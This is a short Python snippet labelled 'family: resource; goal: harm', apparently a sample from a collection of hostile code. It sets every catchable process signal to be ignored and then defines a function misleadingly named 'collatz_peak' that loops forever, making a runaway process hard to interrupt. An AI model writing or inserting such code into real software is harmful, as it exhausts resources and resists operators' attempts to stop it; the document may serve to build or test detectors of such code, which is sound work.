# family: resource; goal: harm
# An endless loop that ignores every signal it can.
import signal

for number in signal.valid_signals():
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass


def collatz_peak(n):
    while True:
        n += 1
